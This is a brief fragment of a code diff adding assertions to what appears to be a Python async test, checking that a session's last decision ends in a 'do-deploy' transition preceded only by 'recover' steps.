+        last = bodies(hub, session, CallDecided)[-1]
+        assert [s.transition for s in last.steps][-1] == "do-deploy"
+        assert {s.transition for s in last.steps[:-1]} == {"recover"}
+        await check(hub, session)
